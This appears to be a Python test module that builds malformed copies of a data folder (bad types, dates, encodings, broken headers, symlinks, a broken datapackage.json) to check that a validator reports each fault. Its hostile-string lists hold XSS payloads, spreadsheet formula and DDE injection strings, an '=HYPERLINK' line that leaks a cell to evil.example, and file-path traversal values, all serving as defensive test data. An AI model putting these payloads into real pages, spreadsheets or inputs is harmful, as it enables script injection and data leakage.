"""A corpus of malformed data folders and hostile strings, generated here (never committed by hand).

Each variant is one small mutation of a copy of `data/`: a bad type, a bad date, a bad encoding, a
binary or UTF-16 file, a 1 MB cell, a missing, renamed or duplicated column, a broken
`datapackage.json`, a symbolic link, blank lines, cells spanning lines... The mutation returns what
the validator must say: the file, and where a cell or a line is at fault, its line and column. The
line is counted in the written file's text, independently of the validator's CSV reader.

`python tests/hostile_corpus.py OUT` writes every variant into OUT/<name>/ to try them by hand.
"""

from __future__ import annotations

import codecs
import csv
import json
import random
import shutil
import sys
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parent))
from conftest import read_rows, write_rows  # noqa: E402

from escalation import paths  # noqa: E402


@dataclass(frozen=True)
class Expect:
    """What `escalation validate` must report for a variant."""

    file: str  # the file the message names
    line: int | None = None  # the line it names, when a line is at fault
    column: str | None = None  # the column it names, when a column is at fault
    exit_code: int = 3
    rows_added: dict[str, int] = field(default_factory=dict)  # rows the variant adds to a table (blank lines...)
    readable: bool = True  # False: the file cannot be read at all (no row of it is read)


@dataclass(frozen=True)
class Variant:
    name: str
    mutate: Callable[[Path], Expect]


#: Strings an attacker would put in text cells. Those holding control characters or exceeding the cell limit
#: must be quarantined; the others accepted, escaped in HTML and neutralised in exported CSV. Each payload that
#: runs script sets document.title to a value starting with PWNED, which the browser test looks for.
HOSTILE_STRINGS = [
    "<script>document.title='PWNED-script'</script>",
    "<img src=x onerror=\"document.title='PWNED-img'\">",
    "\"><svg onload=document.title='PWNED-svg'>",
    "'><iframe srcdoc=\"<script>parent.document.title='PWNED-iframe'</script>\">",
    "</td></tr></table><script>document.title='PWNED-break'</script>",
    "' onmouseover='document.title=\"PWNED-attr\"' x='",
    "<a href=\"javascript:document.title='PWNED-a'\">click</a>",
    "javascript:document.title='PWNED-js'",
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click me\")",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "{{7*7}} ${7*7} <%= 7*7 %>",
    "\tTAB=1+1",
    "\rCR=1+1",
    "NUL\x00byte",
    "right-to-left \u202eexe.jpg",
    "isolate \u2067hidden\u2069",
    "escape \x1b[31mred",
    "long " + "A" * 20_000,
    "too long " + "B" * 200_000,
]

#: http(s) links with quotes and angle brackets: accepted, and escaped inside href attributes.
HOSTILE_URLS = [
    "https://example.org/?q=\"><script>document.title='PWNED-url1'</script>",
    "https://example.org/'onmouseover='document.title=\"PWNED-url2\"",
    "http://example.org/<img/src=x/onerror=document.title='PWNED-url3'>",
]


def copy_data(target: Path) -> Path:
    """A writable copy of the shipped tables and datapackage.json."""
    shutil.copytree(paths.DATA_DIR, target, ignore=shutil.ignore_patterns("README.md"))
    return target


def row_count(path: Path) -> int:
    """Data rows of a pristine table (header excluded)."""
    return len(read_rows(path)[1])


def line_of(path: Path, row_id: str) -> int:
    """The line a row starts on, found by its id in the file's text."""
    text = path.read_bytes().decode("utf-8", errors="replace")
    return text[: text.index("\n" + row_id + ",") + 1].count("\n") + 1


KEYS = {"events": "event_id", "claims": "claim_id", "sources": "source_id", "displacement": "displacement_id"}


def set_cell(table: str, column: str, value: str, row: int = 0, **where: str) -> Callable[[Path], Expect]:
    """A variant that puts one bad value into one cell (of the first row matching `where`, else row `row`)."""

    def mutate(data_dir: Path) -> Expect:
        path = data_dir / f"{table}.csv"
        header, rows = read_rows(path)
        index = next(i for i, r in enumerate(rows) if all(r[header.index(c)] == v for c, v in where.items())) \
            if where else row
        rows[index][header.index(column)] = value
        write_rows(path, header, rows)
        return Expect(f"{table}.csv", line_of(path, rows[index][header.index(KEYS[table])]), column)

    return mutate


def multiline_then_fault(data_dir: Path) -> Expect:
    """Quoted cells spanning lines before the faulty row: the line must be the file's, not the record number."""
    path = data_dir / "events.csv"
    header, rows = read_rows(path)
    rows[0][header.index("notes")] = "first line\nsecond line\nthird line"
    rows[1][header.index("notes")] = "one\r\ntwo"
    rows[3][header.index("time_precision")] = "x"
    write_rows(path, header, rows)
    return Expect("events.csv", line_of(path, rows[3][0]), "time_precision")


def multiline_in_faulty_row(data_dir: Path) -> Expect:
    path = data_dir / "claims.csv"
    header, rows = read_rows(path)
    rows[4][header.index("notes")] = "a note\nover\nthree lines"
    rows[4][header.index("value_low")] = "many"
    write_rows(path, header, rows)
    return Expect("claims.csv", line_of(path, rows[4][0]), "value_low")


def insert_rows(table: str, inserted: list[list[str]], at: int = 3) -> Callable[[Path], Expect]:
    """Rows (blank lines, rows of commas, short or long rows) inserted before data row `at`."""

    def mutate(data_dir: Path) -> Expect:
        path = data_dir / f"{table}.csv"
        header, rows = read_rows(path)
        before = rows[at - 1][0]
        rows[at:at] = inserted
        write_rows(path, header, rows)
        return Expect(f"{table}.csv", line_of(path, before) + 1, None, rows_added={table: len(inserted)})

    return mutate


def short_row(data_dir: Path) -> Expect:
    path = data_dir / "displacement.csv"
    header, rows = read_rows(path)
    rows[2] = rows[2][:4]
    write_rows(path, header, rows)
    return Expect("displacement.csv", line_of(path, rows[2][0]), header[4])


def long_row(data_dir: Path) -> Expect:
    path = data_dir / "displacement.csv"
    header, rows = read_rows(path)
    rows[2] = rows[2] + ["surplus", "=1+1"]
    write_rows(path, header, rows)
    return Expect("displacement.csv", line_of(path, rows[2][0]), None)


def duplicate_row(data_dir: Path) -> Expect:
    path = data_dir / "sources.csv"
    header, rows = read_rows(path)
    rows.insert(6, list(rows[5]))
    write_rows(path, header, rows)
    text = path.read_text(encoding="utf-8")
    second = text.index("\n" + rows[5][0] + ",", text.index("\n" + rows[5][0] + ",") + 1) + 1
    return Expect("sources.csv", text[:second].count("\n") + 1, "source_id", rows_added={"sources": 1})


def header_change(table: str, change: Callable[[list[str]], list[str]], column: str | None) -> Callable[[Path], Expect]:
    """A changed header line."""

    def mutate(data_dir: Path) -> Expect:
        path = data_dir / f"{table}.csv"
        header, rows = read_rows(path)
        write_rows(path, change(header), rows)
        return Expect(f"{table}.csv", 1, column, readable=False)

    return mutate


def missing_column(data_dir: Path) -> Expect:
    """value_low removed from the header and from every row: the message names value_low, not its neighbour."""
    path = data_dir / "claims.csv"
    header, rows = read_rows(path)
    position = header.index("value_low")
    write_rows(path, header[:position] + header[position + 1:], [r[:position] + r[position + 1:] for r in rows])
    return Expect("claims.csv", 1, "value_low", readable=False)


def file_bytes(table: str, make: Callable[[bytes], bytes], line: int | None = None,
               column: str | None = None, exit_code: int = 3, readable: bool = False) -> Callable[[Path], Expect]:
    """Replace a table's bytes by a function of them."""

    def mutate(data_dir: Path) -> Expect:
        path = data_dir / f"{table}.csv"
        path.write_bytes(make(path.read_bytes()))
        return Expect(f"{table}.csv", line, column, exit_code=exit_code, readable=readable)

    return mutate


def latin1_in_cell(data_dir: Path) -> Expect:
    """One cell saved in ISO-8859-9: the message names its line and column."""
    path = data_dir / "events.csv"
    header, rows = read_rows(path)
    rows[5][header.index("location")] = "PLACEHOLDER"
    write_rows(path, header, rows)
    path.write_bytes(path.read_bytes().replace(b"PLACEHOLDER", "Şırnak".encode("iso-8859-9")))
    return Expect("events.csv", line_of(path, rows[5][0]), "location", readable=False)


def long_cell_then_latin1(data_dir: Path) -> Expect:
    """A bad byte after a cell longer than the csv module's own limit: still named by line."""
    path = data_dir / "claims.csv"
    header, rows = read_rows(path)
    rows[2][header.index("notes")] = "N" * 200_000 + "PLACEHOLDER"
    write_rows(path, header, rows)
    path.write_bytes(path.read_bytes().replace(b"PLACEHOLDER", "ğ".encode("iso-8859-9")))
    return Expect("claims.csv", line_of(path, rows[2][0]), None, readable=False)


def random_binary(data: bytes) -> bytes:
    generator = random.Random(13)
    return bytes(generator.randrange(256) for _ in range(4096))


def _moved_behind_a_link(data_dir: Path, name: str) -> Expect:
    """Move a file out of the folder and leave a symbolic link to it in its place."""
    path = data_dir / name
    elsewhere = data_dir.parent / f"{path.stem}-elsewhere{path.suffix}"
    shutil.move(path, elsewhere)
    path.symlink_to(elsewhere)
    return Expect(name, None, None, readable=False)


def symlinked(data_dir: Path) -> Expect:
    return _moved_behind_a_link(data_dir, "claims.csv")


def directory_instead(data_dir: Path) -> Expect:
    path = data_dir / "sources.csv"
    path.unlink()
    path.mkdir()
    return Expect("sources.csv", None, None, readable=False)


def missing_file(data_dir: Path) -> Expect:
    (data_dir / "displacement.csv").unlink()
    return Expect("displacement.csv", None, None, readable=False)


def descriptor(change: Callable[[dict], object] | None = None, text: str | None = None,
               raw: bytes | None = None) -> Callable[[Path], Expect]:
    """A broken datapackage.json: a changed structure, replacement text or replacement bytes."""

    def mutate(data_dir: Path) -> Expect:
        path = data_dir / "datapackage.json"
        if raw is not None:
            path.write_bytes(raw)
        elif text is not None:
            path.write_text(text, encoding="utf-8")
        else:
            package = json.loads(path.read_text(encoding="utf-8"))
            path.write_text(json.dumps(change(package)), encoding="utf-8")
        return Expect("datapackage.json", None, None, readable=False)

    return mutate


def symlinked_descriptor(data_dir: Path) -> Expect:
    return _moved_behind_a_link(data_dir, "datapackage.json")


def edit_field(table: str, field_name: str, **changes) -> Callable[[dict], dict]:
    def change(package: dict) -> dict:
        resource = next(r for r in package["resources"] if r["name"] == table)
        spec = next(f for f in resource["schema"]["fields"] if f["name"] == field_name)
        spec.update(changes)
        for key in [k for k, v in changes.items() if v is None]:
            del spec[key]
        return package

    return change


def without_resource(table: str) -> Callable[[dict], dict]:
    def change(package: dict) -> dict:
        package["resources"] = [r for r in package["resources"] if r["name"] != table]
        return package

    return change


def edit_resource(table: str, **changes) -> Callable[[dict], dict]:
    def change(package: dict) -> dict:
        next(r for r in package["resources"] if r["name"] == table).update(changes)
        return package

    return change


def duplicated_resource(package: dict) -> dict:
    package["resources"].append(package["resources"][0])
    return package


def bom(data: bytes) -> bytes:
    return codecs.BOM_UTF8 + data


def crlf(data: bytes) -> bytes:
    return data.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")


def lone_cr(data: bytes) -> bytes:
    return data.replace(b"\r\n", b"\n").replace(b"\n", b"\r")


def utf16(data: bytes) -> bytes:
    return data.decode("utf-8").encode("utf-16")


def semicolons(data: bytes) -> bytes:
    lines = data.decode("utf-8").splitlines()
    rows = list(csv.reader(lines))
    return "\n".join(";".join(row) for row in rows).encode("utf-8")


def first_line_blank(data: bytes) -> bytes:
    return b"\n" + data


def unclosed_quote(data: bytes) -> bytes:
    lines = data.split(b"\n")
    lines[4] = b'"' + lines[4]
    return b"\n".join(lines)


def stray_quote(data: bytes) -> bytes:
    lines = data.split(b"\n")
    lines[3] = b'"CL-XX-999"x' + lines[3][lines[3].index(b","):]
    return b"\n".join(lines)


ONE_MEGABYTE = "M" * (1 << 20)

VARIANTS = [
    # integers
    Variant("integer 3.5", set_cell("claims", "value_low", "3.5", scope="event")),
    Variant("integer inf", set_cell("claims", "value_low", "inf", scope="event")),
    Variant("integer 1e308", set_cell("claims", "value_high", "1e308", scope="event")),
    Variant("integer of 20 digits", set_cell("claims", "value_low", "12345678901234567890", scope="event")),
    Variant("integer +5", set_cell("claims", "value_low", "+5", scope="event")),
    Variant("integer NaN", set_cell("claims", "value_high", "NaN", scope="event")),
    Variant("integer with a space", set_cell("displacement", "value_low", " 5")),
    Variant("integer in Arabic-Indic digits", set_cell("events", "time_precision", "\u0661")),
    Variant("integer with a thousands separator", set_cell("displacement", "value_low", "520,000")),
    Variant("integer 1_000", set_cell("displacement", "value_high", "1_000")),
    Variant("integer as hex", set_cell("events", "geo_precision", "0x2")),
    # numbers
    Variant("number inf", set_cell("events", "latitude", "inf", row=0)),
    Variant("number NaN", set_cell("events", "longitude", "NaN", row=0)),
    Variant("number with exponent", set_cell("events", "latitude", "3.586e1", row=0)),
    Variant("number +35.9", set_cell("events", "latitude", "+35.86", row=0)),
    Variant("number of 400 digits", set_cell("events", "longitude", "9" * 400, row=0)),
    Variant("number with a comma", set_cell("events", "latitude", "35,86", row=0)),
    # dates
    Variant("year 9999", set_cell("events", "event_date", "9999-02-27")),
    Variant("year 1899", set_cell("events", "event_date", "1899-12-31")),
    Variant("31 February", set_cell("events", "event_date", "2020-02-31")),
    Variant("date with slashes", set_cell("sources", "accessed_on", "2026/11/24")),
    Variant("year 0001", set_cell("sources", "accessed_on", "0001-01-01")),
    Variant("period in year 9999", set_cell("claims", "period_end", "9999-12-31", scope="running_total")),
    Variant("timestamp in year 9999", set_cell("events", "first_reported_at", "9999-12-31T23:59-05:00")),
    Variant("timestamp at 25 o'clock", set_cell("claims", "published_at", "2020-02-27T25:00+03:00")),
    Variant("timestamp without offset", set_cell("displacement", "published_at", "2020-02-04T11:12")),
    Variant("timestamp in year 9999 as a day", set_cell("sources", "published_at", "9999-01-01")),
    # control and bidi characters, blank required cells
    Variant("NUL in a note", set_cell("events", "notes", "before\x00after")),
    Variant("right-to-left override", set_cell("events", "location", "Saraqib \u202egnp.exe")),
    Variant("bidi isolate", set_cell("sources", "title", "title \u2066hidden\u2069")),
    Variant("escape character", set_cell("sources", "publisher", "pub\x1b[2J")),
    Variant("tab in a claimant", set_cell("claims", "claimant", "SOHR\tx")),
    Variant("lone carriage return", set_cell("claims", "notes", "a\rb")),
    Variant("DEL character", set_cell("displacement", "value_text", "about\x7f 500")),
    Variant("C1 control character", set_cell("events", "notes", "next\x85line")),
    Variant("whitespace-only publisher", set_cell("sources", "publisher", "   ")),
    Variant("whitespace-only claimant", set_cell("claims", "claimant", "   ")),
    Variant("whitespace-only event id", set_cell("events", "event_id", "  ")),
    Variant("cell of 1 MB", set_cell("events", "notes", ONE_MEGABYTE)),
    # links
    Variant("javascript: url", set_cell("sources", "url", "javascript:alert(document.domain)")),
    Variant("JaVaScRiPt: url", set_cell("sources", "url", "JaVaScRiPt:alert(1)")),
    Variant("data: url", set_cell("sources", "url", "data:text/html,<script>alert(1)</script>")),
    Variant("vbscript: url", set_cell("sources", "url", "vbscript:msgbox(1)")),
    Variant("file: url", set_cell("sources", "url", "file:///etc/passwd")),
    Variant("relative url", set_cell("sources", "url", "/etc/passwd")),
    Variant("url with leading space", set_cell("sources", "url", " javascript:alert(1)")),
    Variant("url without host", set_cell("sources", "url", "https:")),
    Variant("url with a tab in the scheme", set_cell("sources", "url", "java\tscript:alert(1)")),
    # schema rules
    Variant("value not in the enum", set_cell("events", "event_type", "Battle")),
    Variant("id breaking its pattern", set_cell("claims", "claim_id", "CL-1")),
    Variant("required value missing", set_cell("sources", "title", "")),
    Variant("low above high", set_cell("displacement", "value_high", "1")),
    Variant("duplicate row", duplicate_row),
    # lines and cells
    Variant("blank line", insert_rows("claims", [[]])),
    Variant("two blank lines", insert_rows("events", [[], []])),
    Variant("line of commas", insert_rows("displacement", [[""] * 10])),
    Variant("row too short", short_row),
    Variant("row too long", long_row),
    Variant("multi-line cells before a fault", multiline_then_fault),
    Variant("multi-line cell in the faulty row", multiline_in_faulty_row),
    # whole files
    Variant("binary file", file_bytes("claims", random_binary)),
    Variant("UTF-16 file", file_bytes("events", utf16, line=1)),
    Variant("ISO-8859-9 cell", latin1_in_cell),
    Variant("ISO-8859-9 byte after a long cell", long_cell_then_latin1),
    Variant("empty file", file_bytes("displacement", lambda data: b"")),
    Variant("semicolon-separated", file_bytes("displacement", semicolons, line=1)),
    Variant("blank first line", file_bytes("claims", first_line_blank, line=1)),
    Variant("lone carriage returns as line ends", file_bytes("sources", lone_cr, line=1)),
    Variant("unclosed quote", file_bytes("claims", unclosed_quote)),
    Variant("stray quote", file_bytes("claims", stray_quote, line=4)),
    Variant("symbolic link", symlinked),
    Variant("directory instead of a file", directory_instead),
    Variant("missing file", missing_file),
    Variant("missing column", missing_column),
    Variant("renamed column", header_change("claims", lambda h: [("low" if c == "value_low" else c) for c in h],
                                            "value_low")),
    Variant("duplicate column", header_change("events", lambda h: [("location" if c == "admin3" else c) for c in h],
                                              "location")),
    Variant("extra column", header_change("sources", lambda h: h + ["surplus"], "surplus")),
    Variant("columns out of order", header_change("displacement", lambda h: [h[1], h[0], *h[2:]], None)),
    Variant("unnamed column", header_change("sources", lambda h: [*h[:-1], ""], None)),
    # datapackage.json
    Variant("datapackage not JSON", descriptor(text='{"resources": [')),
    Variant("datapackage not UTF-8", descriptor(raw='{"title": "Şırnak"}'.encode("iso-8859-9"))),
    Variant("datapackage is a list", descriptor(text="[]")),
    Variant("datapackage is empty", descriptor(text="")),
    Variant("datapackage without resources", descriptor(text="{}")),
    Variant("datapackage resources not a list", descriptor(text='{"resources": {"name": "claims"}}')),
    Variant("datapackage missing a resource", descriptor(without_resource("displacement"))),
    Variant("datapackage field without name", descriptor(edit_field("claims", "notes", name=None))),
    Variant("datapackage unknown type", descriptor(edit_field("claims", "value_low", type="bogus"))),
    Variant("datapackage bad pattern", descriptor(edit_field("claims", "claim_id", constraints={"pattern": "("}))),
    Variant("datapackage path outside", descriptor(edit_resource("claims", path="../../etc/passwd"))),
    Variant("datapackage resource twice", descriptor(duplicated_resource)),
    Variant("datapackage enum not a list", descriptor(edit_field("claims", "party", constraints={"enum": 5}))),
    Variant("datapackage minimum not a number",
            descriptor(edit_field("claims", "value_low", constraints={"minimum": "x"}))),
    Variant("datapackage format unknown", descriptor(edit_field("sources", "url", format="bogus"))),
    Variant("datapackage symbolic link", symlinked_descriptor),
    # harmless variations a spreadsheet produces: accepted as they are
    Variant("byte-order mark", file_bytes("claims", bom, exit_code=0, readable=True)),
    Variant("CRLF line ends", file_bytes("events", crlf, exit_code=0, readable=True)),
]


def write_all(out: Path) -> None:
    """Every variant as its own data folder under `out`."""
    for variant in VARIANTS:
        target = copy_data(out / variant.name.replace(" ", "_").replace("/", "_"))
        print(variant.name, variant.mutate(target))


if __name__ == "__main__":
    write_all(Path(sys.argv[1]))
